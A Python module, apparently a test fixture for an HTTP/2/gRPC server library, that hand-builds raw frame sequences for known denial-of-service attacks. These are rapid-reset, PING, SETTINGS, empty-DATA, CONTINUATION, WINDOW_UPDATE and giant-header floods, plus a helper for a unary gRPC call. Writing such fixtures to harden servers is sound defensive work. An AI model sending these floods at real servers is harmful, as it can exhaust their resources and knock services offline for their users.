"""What HTTP/2 clients that mean no good send: octets as they are, written by hand."""

from collections.abc import Iterator
from typing import Final

from quorate.api.http2 import frames

FLOOD: Final = 20_000
NAMES: Final = ("rapid reset", "ping", "settings", "empty data", "continuation", "window", "giant headers")
POST: Final = b"\x83\x86\x84"  # POST http /


def call_head(path: bytes) -> bytes:
    """The headers of a gRPC call, as literals."""
    fields = (
        (b":method", b"POST"),
        (b":scheme", b"http"),
        (b":path", path),
        (b":authority", b"x"),
        (b"content-type", b"application/grpc"),
        (b"te", b"trailers"),
    )
    return b"".join(b"\0" + bytes((len(name),)) + name + bytes((len(value),)) + value for name, value in fields)


def call(stream_id: int, head: bytes, body: bytes) -> bytes:
    """A whole unary call."""
    framed = b"\0" + len(body).to_bytes(4, "big") + body
    return frames.frame(frames.HEADERS, 4, stream_id, head) + frames.frame(frames.DATA, 1, stream_id, framed)


def flood(name: str) -> Iterator[bytes]:
    """All that one connection says."""
    head = frames.PREFACE + frames.settings({})
    start = frames.frame(frames.HEADERS, 4, 1, POST)
    match name:
        case "rapid reset":
            for number in range(FLOOD):
                stream_id = 2 * number + 1
                opened = frames.frame(frames.HEADERS, 5, stream_id, POST)
                yield (b"" if number else head) + opened + frames.rst_stream(stream_id, 8)
        case "ping":
            yield head + frames.frame(frames.PING, 0, 0, b"12345678") * FLOOD
        case "settings":
            yield head + frames.settings({}) * FLOOD
        case "empty data":
            yield head + start + frames.frame(frames.DATA, 0, 1, b"") * FLOOD
        case "continuation":
            yield head + frames.frame(frames.HEADERS, 0, 1, b"") + frames.frame(frames.CONTINUATION, 0, 1, b"") * FLOOD
        case "window":
            yield head + start + frames.window_update(1, 1) * 2 * FLOOD
        case "giant headers":
            field = b"\x00\x05x-big\x7f\x80\x7f" + b"v" * (127 + 16256)
            yield head + frames.frame(frames.HEADERS, 0, 1, POST)
            for _ in range(1000):
                yield frames.frame(frames.CONTINUATION, 0, 1, field[:16_000])
        case _:
            raise AssertionError(name)
